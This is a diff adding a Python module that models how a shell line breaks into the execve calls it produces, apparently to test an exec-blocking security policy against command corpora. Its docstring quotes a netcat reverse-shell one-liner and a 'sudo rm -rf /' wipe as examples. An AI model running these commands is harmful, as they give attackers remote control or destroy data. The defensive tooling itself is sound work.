@@ -1,0 +1,523 @@
+"""Turn a shell command line from the corpora into the argvs the kernel would see exec'd.
+
+The policy matches execs, not shell text.  A corpus line such as
+``cat /tmp/f | /bin/sh -i 2>&1 | nc host 4444 > /tmp/f`` reaches the kernel as several
+``execve`` calls: the shell that runs the line (``sh -c LINE`` when a program or a script hands
+it to a shell), then one exec per external simple command.  :func:`exec_argvs` returns all of
+them, so a test can say "the line is blocked if any of its execs is blocked".
+
+What the model does, and does not do:
+
+- splits on ``|``, ``|&``, ``;``, ``&``, ``&&``, ``||``, newlines, ``(``, ``)``; drops
+  comments, redirections (``>``, ``2>&1``, ``&>``, ``<<EOF`` with its here-document body …)
+  and leading ``NAME=value`` assignments; removes quotes like a POSIX shell;
+- command substitutions ``$(…)``, backticks and ``<(…)`` run as their own commands; the word
+  that held them keeps the literal text (the real value is unknown offline);
+- shell builtins (``echo``, ``kill``, ``history``, ``export``, ``[`` …) are not execs: only the
+  ``sh -c`` that carries them shows them to the kernel;
+- wrappers exec their command after themselves: ``sudo``, ``doas``, ``env``, ``nohup``,
+  ``nice``, ``ionice``, ``timeout``, ``stdbuf``, ``setsid``, ``chroot``, ``time``,
+  ``xargs`` (without the items it reads), ``find -exec … ;``, ``su -c``, ``exec``,
+  ``command``, ``eval``; a shell's ``-c`` string is parsed again for its own children;
+- a command named by a variable (``$SUDO mv …``, ``$sh_c "…"`` in get.docker.com) is guessed:
+  a name containing ``sh`` is a ``sh -c`` of the rest, any other is a wrapper that may be empty;
+- globs, ``~`` and parameters are not expanded (``rm -rf /tmp/*`` stays one argument).
+
+Nothing here runs anything: it only reads text.
+
+Example::
+
+    >>> exec_argvs("sudo rm -rf / --no-preserve-root > /dev/null")
+    [['sh', '-c', 'sudo rm -rf / --no-preserve-root > /dev/null'], ['sudo', 'rm', '-rf', '/', \
+'--no-preserve-root'], ['rm', '-rf', '/', '--no-preserve-root']]
+"""
+
+from __future__ import annotations
+
+import re
+
+__all__ = ["exec_argvs", "simple_commands", "SHELLS", "BUILTINS"]
+
+SHELLS = frozenset(
+    {"sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "pdksh", "ash", "rbash", "yash",
+     "posh", "busybox-sh"}
+)
+
+BUILTINS = frozenset(
+    {
+        ":", ".", "[", "[[", "alias", "bg", "bind", "break", "builtin", "caller", "cd",
+        "compgen", "complete", "continue", "declare", "dirs", "disown", "echo", "enable",
+        "exit", "export", "false", "fc", "fg", "getopts", "hash", "help", "history", "jobs",
+        "kill", "let", "local", "logout", "mapfile", "popd", "printf", "pushd", "pwd", "read",
+        "readarray", "readonly", "return", "set", "shift", "shopt", "source", "suspend", "test",
+        "times", "trap", "true", "type", "typeset", "ulimit", "umask", "unalias", "unset",
+        "wait", "zmodload", "ztcp", "zsocket", "setopt", "unsetopt", "print", "whence",
+    }
+)
+
+_RESERVED_PREFIX = frozenset(
+    {"if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}",
+     "esac", "time", "coproc"}
+)
+_DROP_COMMAND = frozenset({"for", "select", "case", "function", "in"})
+
+_ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*(\[[^\]]*\])?\+?=")
+_VARIABLE_WORD = re.compile(r"^\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?$")
+_MAX_DEPTH = 8
+
+
+class _Parser:
+    """A small POSIX-ish shell lexer that yields simple commands as word lists."""
+
+    def __init__(self, text: str, depth: int) -> None:
+        self.s = text
+        self.i = 0
+        self.depth = depth
+        self.commands: list[list[str]] = []
+        self.nested: list[str] = []  # bodies of $(…), `…`, <(…) to parse as commands
+        self._words: list[str] = []
+        self._word: list[str] = []
+        self._in_word = False
+        self._drop_next_word = False
+        self._heredocs: list[tuple[str, bool]] = []
+
+    # -- word and command boundaries -------------------------------------------------------
+    def _end_word(self) -> None:
+        if self._in_word:
+            word = "".join(self._word)
+            if self._drop_next_word:
+                self._drop_next_word = False
+            else:
+                self._words.append(word)
+        self._word = []
+        self._in_word = False
+
+    def _end_command(self) -> None:
+        self._end_word()
+        if self._words:
+            self.commands.append(self._words)
+        self._words = []
+        self._drop_next_word = False
+
+    def _add(self, text: str) -> None:
+        self._word.append(text)
+        self._in_word = True
+
+    # -- scanning helpers ------------------------------------------------------------------
+    def _match_paren(self, start: int) -> int:
+        """Index just past the ``)`` closing the ``(`` before ``start``."""
+        depth = 1
+        i = start
+        s = self.s
+        while i < len(s):
+            c = s[i]
+            if c == "\\":
+                i += 2
+                continue
+            if c == "'":
+                j = s.find("'", i + 1)
+                i = len(s) if j < 0 else j + 1
+                continue
+            if c == '"':
+                i = self._skip_double(i + 1)
+                continue
+            if c == "(":
+                depth += 1
+            elif c == ")":
+                depth -= 1
+                if depth == 0:
+                    return i + 1
+            i += 1
+        return len(s)
+
+    def _skip_double(self, i: int) -> int:
+        s = self.s
+        while i < len(s):
+            if s[i] == "\\":
+                i += 2
+                continue
+            if s[i] == '"':
+                return i + 1
+            if s.startswith("$(", i):
+                i = self._match_paren(i + 2)
+                continue
+            i += 1
+        return len(s)
+
+    def _backtick(self, i: int) -> int:
+        """``i`` is just past an opening backtick; returns index past the closing one."""
+        s = self.s
+        j = i
+        while j < len(s) and s[j] != "`":
+            j += 2 if s[j] == "\\" else 1
+        self.nested.append(s[i:j].replace("\\`", "`"))
+        self._add("`" + s[i:j] + "`")
+        return min(j + 1, len(s))
+
+    def _dollar(self, i: int) -> int:
+        """``i`` points at ``$``; consumes an expansion and returns the next index."""
+        s = self.s
+        if s.startswith("$((", i):
+            end = self._match_paren(i + 2)
+            end = end + 1 if end < len(s) and s[end] == ")" else end
+            self._add(s[i:end])
+            return end
+        if s.startswith("$(", i):
+            end = self._match_paren(i + 2)
+            self.nested.append(s[i + 2 : end - 1])
+            self._add(s[i:end])
+            return end
+        if s.startswith("${", i):
+            depth = 0
+            j = i + 1
+            while j < len(s):
+                if s[j] == "{":
+                    depth += 1
+                elif s[j] == "}":
+                    depth -= 1
+                    if depth == 0:
+                        break
+                j += 1
+            self._add(s[i : j + 1])
+            return j + 1
+        if s.startswith("$'", i):  # ANSI-C quoting: keep the text, decode simple escapes
+            j = i + 2
+            out: list[str] = []
+            while j < len(s) and s[j] != "'":
+                if s[j] == "\\" and j + 1 < len(s):
+                    out.append({"n": "\n", "t": "\t", "'": "'", "\\": "\\"}.get(s[j + 1],
+                                                                                "\\" + s[j + 1]))
+                    j += 2
+                    continue
+                out.append(s[j])
+                j += 1
+            self._add("".join(out))
+            return j + 1
+        self._add("$")
+        return i + 1
+
+    def _double_quoted(self, i: int) -> int:
+        """``i`` is just past an opening ``"``."""
+        s = self.s
+        self._in_word = True
+        while i < len(s):
+            c = s[i]
+            if c == '"':
+                return i + 1
+            if c == "\\" and i + 1 < len(s):
+                nxt = s[i + 1]
+                if nxt in '"\\$`':
+                    self._add(nxt)
+                elif nxt == "\n":
+                    pass
+                else:
+                    self._add("\\" + nxt)
+                i += 2
+                continue
+            if c == "$":
+                i = self._dollar(i)
+                continue
+            if c == "`":
+                i = self._backtick(i + 1)
+                continue
+            self._add(c)
+            i += 1
+        return i
+
+    def _redirection(self, i: int) -> int:
+        """``i`` points at ``<``, ``>`` or the ``&`` of ``&>``; drops operator and target."""
+        s = self.s
+        if self._in_word and re.fullmatch(r"[0-9]+|\{[A-Za-z_][A-Za-z0-9_]*\}", "".join(self._word)):
+            self._word = []
+            self._in_word = False
+        else:
+            self._end_word()
+        m = re.compile(r"&>>|&>|<<<|<<-|<<|<>|<&|>&|>>|>\||<|>").match(s, i)
+        assert m is not None
+        op = m.group(0)
+        i = m.end()
+        if op in ("<&", ">&"):
+            m2 = re.compile(r"[0-9]+-?|-").match(s, i)
+            if m2:
+                return m2.end()
+        if op in ("<<", "<<-"):
+            m3 = re.compile(r"[ \t]*(['\"]?)([^ \t\n;&|<>'\"]+)\1").match(s, i)
+            if m3:
+                self._heredocs.append((m3.group(2), op == "<<-"))
+                return m3.end()
+        if op == "<" and s.startswith("(", i):  # process substitution <(…)
+            end = self._match_paren(i + 1)
+            self.nested.append(s[i + 1 : end - 1])
+            return end
+        self._drop_next_word = True
+        return i
+
+    def _skip_heredocs(self, i: int) -> int:
+        """``i`` is just past a newline; skips pending here-document bodies."""
+        s = self.s
+        while self._heredocs:
+            delim, strip_tabs = self._heredocs.pop(0)
+            while i < len(s):
+                j = s.find("\n", i)
+                line = s[i:] if j < 0 else s[i:j]
+                i = len(s) if j < 0 else j + 1
+                if (line.lstrip("\t") if strip_tabs else line) == delim:
+                    break
+        return i
+
+    # -- main loop -------------------------------------------------------------------------
+    def parse(self) -> list[list[str]]:
+        s = self.s
+        i = 0
+        while i < len(s):
+            c = s[i]
+            if c == "\\":
+                if i + 1 < len(s) and s[i + 1] == "\n":
+                    i += 2
+                    continue
+                if i + 1 < len(s):
+                    self._add(s[i + 1])
+                i += 2
+                continue
+            if c == "'":
+                j = s.find("'", i + 1)
+                j = len(s) if j < 0 else j
+                self._add(s[i + 1 : j])
+                i = j + 1
+                continue
+            if c == '"':
+                i = self._double_quoted(i + 1)
+                continue
+            if c == "$":
+                i = self._dollar(i)
+                continue
+            if c == "`":
+                i = self._backtick(i + 1)
+                continue
+            if c in " \t":
+                self._end_word()
+                i += 1
+                continue
+            if c == "#" and not self._in_word:
+                j = s.find("\n", i)
+                i = len(s) if j < 0 else j
+                continue
+            if c == "\n":
+                self._end_command()
+                i = self._skip_heredocs(i + 1)
+                continue
+            if c in "<>" or (c == "&" and s.startswith(">", i + 1)):
+                if c == ">" and s.startswith("(", i + 1):  # process substitution >(…)
+                    end = self._match_paren(i + 2)
+                    self.nested.append(s[i + 2 : end - 1])
+                    self._add(s[i:end])
+                    i = end
+                    continue
+                i = self._redirection(i)
+                continue
+            if (c == "(" and s.startswith("((", i) and not self._in_word
+                    and all(w in _RESERVED_PREFIX for w in self._words)):
+                end = self._match_paren(i + 2)  # arithmetic command ((…))
+                i = end + 1 if end < len(s) and s[end] == ")" else end
+                continue
+            if c in ";&|()":
+                self._end_command()
+                i += 1
+                continue
+            self._add(c)
+            i += 1
+        self._end_command()
+        return self.commands
+
+
+def simple_commands(line: str, _depth: int = 0) -> list[list[str]]:
+    """Word lists of every simple command in ``line``, substitutions included, in text order.
+
+    Redirections and comments are gone and quotes removed; assignments, reserved words and
+    builtins are still there (see :func:`exec_argvs` for what is exec'd).
+    """
+    parser = _Parser(line, _depth)
+    commands = parser.parse()
+    if _depth < _MAX_DEPTH:
+        for body in parser.nested:
+            commands.extend(simple_commands(body, _depth + 1))
+    return commands
+
+
+def _strip_prefix(words: list[str]) -> list[str]:
+    while words:
+        w = words[0]
+        if w in _RESERVED_PREFIX or _ASSIGNMENT.match(w):
+            words = words[1:]
+            continue
+        break
+    return words
+
+
+def _skip_options(words: list[str], with_value: set[str], stop_at_first_operand: bool = True
+                  ) -> list[str]:
+    """Drop leading options of a wrapper; ``with_value`` options consume the next word."""
+    i = 0
+    while i < len(words):
+        w = words[i]
+        if w == "--":
+            return words[i + 1 :]
+        if not w.startswith("-") or w == "-":
+            return words[i:]
+        if w in with_value:
+            i += 2
+            continue
+        i += 1
+    return [] if stop_at_first_operand else words
+
+
+def _unwrap(argv: list[str]) -> list[list[str]]:
+    """Commands a wrapper executes after itself (empty for a plain command)."""
+    name = argv[0].rsplit("/", 1)[-1]
+    rest = argv[1:]
+    if name in ("sudo", "doas"):
+        inner = _skip_options(rest, {"-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-T", "-U",
+                                     "--user", "--group", "--host", "--prompt", "--chdir"})
+        return [inner] if inner else []
+    if name == "env":
+        i = 0
+        while i < len(rest):
+            w = rest[i]
+            if w in ("-u", "--unset", "-C", "--chdir"):
+                i += 2
+            elif w in ("-S", "--split-string") and i + 1 < len(rest):
+                return [rest[i + 1].split() + rest[i + 2 :]]
+            elif w.startswith("-") or _ASSIGNMENT.match(w):
+                i += 1
+            else:
+                return [rest[i:]]
+        return []
+    if name in ("nohup", "setsid", "unbuffer"):
+        inner = _skip_options(rest, set())
+        return [inner] if inner else []
+    if name == "nice":
+        inner = _skip_options(rest, {"-n", "--adjustment"})
+        return [inner] if inner else []
+    if name == "ionice":
+        inner = _skip_options(rest, {"-c", "-n", "-p", "-P", "-u", "--class", "--classdata"})
+        return [inner] if inner else []
+    if name == "stdbuf":
+        inner = _skip_options(rest, {"-i", "-o", "-e"})
+        return [inner] if inner else []
+    if name == "time":
+        inner = _skip_options(rest, {"-f", "-o", "--format", "--output"})
+        return [inner] if inner else []
+    if name == "timeout":
+        inner = _skip_options(rest, {"-s", "-k", "--signal", "--kill-after"})
+        return [inner[1:]] if len(inner) > 1 else []
+    if name == "chroot":
+        inner = _skip_options(rest, {"--userspec", "--groups"})
+        return [inner[1:]] if len(inner) > 1 else []
+    if name == "runuser":
+        if "-c" in rest:
+            return [["sh", "-c", rest[rest.index("-c") + 1]]] if rest[-1] != "-c" else []
+        inner = _skip_options(rest, {"-u", "-g", "-G", "--user", "--group"})
+        return [inner] if inner else []
+    if name == "su":
+        for flag in ("-c", "--command"):
+            if flag in rest and rest.index(flag) + 1 < len(rest):
+                return [["sh", "-c", rest[rest.index(flag) + 1]]]
+        return []
+    if name == "xargs":
+        inner = _skip_options(rest, {"-I", "-i", "-n", "-L", "-l", "-P", "-s", "-d", "-E", "-e",
+                                     "-a", "--max-args", "--max-lines", "--max-procs",
+                                     "--delimiter", "--arg-file", "--eof"})
+        return [inner or ["echo"]]
+    if name == "find":
+        out: list[list[str]] = []
+        i = 0
+        while i < len(rest):
+            if rest[i] in ("-exec", "-execdir", "-ok", "-okdir"):
+                j = i + 1
+                while j < len(rest) and rest[j] not in (";", "+"):
+                    j += 1
+                if j > i + 1:
+                    out.append(rest[i + 1 : j])
+                i = j
+            i += 1
+        return out
+    if name in SHELLS or name == "busybox" and rest[:1] in (["sh"], ["ash"], ["bash"]):
+        words = rest[1:] if name == "busybox" else rest
+        for k, w in enumerate(words):
+            if w == "-c" or (w.startswith("-") and not w.startswith("--") and "c" in w[1:]):
+                if k + 1 < len(words):
+                    return [["\0script", words[k + 1]]]
+                return []
+            if not w.startswith("-"):
+                break
+    return []
+
+
+def _builtin_execs(words: list[str], depth: int) -> list[list[str]]:
+    """What a builtin that runs commands (exec, command, eval, builtin) executes."""
+    name = words[0]
+    if name == "exec":
+        inner = _skip_options(words[1:], {"-a"})
+        return _execs_of_command(inner, depth) if inner else []
+    if name == "command":
+        if len(words) > 1 and words[1] in ("-v", "-V"):
+            return []
+        inner = _skip_options(words[1:], set())
+        return _execs_of_command(inner, depth) if inner else []
+    if name == "eval":
+        return _execs_of_script(" ".join(words[1:]), depth + 1)
+    return []
+
+
+def _execs_of_command(words: list[str], depth: int) -> list[list[str]]:
+    words = _strip_prefix(words)
+    if not words or depth > _MAX_DEPTH:
+        return []
+    first = words[0]
+    if first in _DROP_COMMAND or first in ("[[", "]]", "((", "))"):
+        return []
+    if first in ("exec", "command", "eval"):
+        return _builtin_execs(words, depth)
+    if first in BUILTINS:
+        return []
+    var = _VARIABLE_WORD.match(first)
+    if var:  # the command name is a variable: guess (see module docstring)
+        if "sh" in var.group(1).lower() and len(words) > 1:
+            return _expand(["sh", "-c", " ".join(words[1:])], depth + 1)
+        return _execs_of_command(words[1:], depth + 1)
+    if first.startswith(("$(", "`")) or not first:
+        return []
+    return _expand(words, depth)
+
+
+def _execs_of_script(text: str, depth: int) -> list[list[str]]:
+    out: list[list[str]] = []
+    for words in simple_commands(text):
+        out.extend(_execs_of_command(words, depth))
+    return out
+
+
+def _expand(argv: list[str], depth: int) -> list[list[str]]:
+    out = [argv]
+    if depth > _MAX_DEPTH:
+        return out
+    for inner in _unwrap(argv):
+        if inner and inner[0] == "\0script":
+            out.extend(_execs_of_script(inner[1], depth + 1))
+        else:
+            out.extend(_execs_of_command(inner, depth + 1))
+    return out
+
+
+def exec_argvs(line: str, shell: str = "sh") -> list[list[str]]:
+    """Every argv the kernel would see when a shell runs ``line``: ``[shell, "-c", line]`` first.
+
+    Args:
+        line: one corpus command line (may hold several lines, pipes, substitutions).
+        shell: argv[0] of the shell that is handed the line.
+
+    Returns:
+        A list of argvs (lists of str), the shell's own first, then every exec in text order,
+        wrappers followed by what they run.  Duplicates are kept.
+    """
+    return _expand([shell, "-c", line], 0)
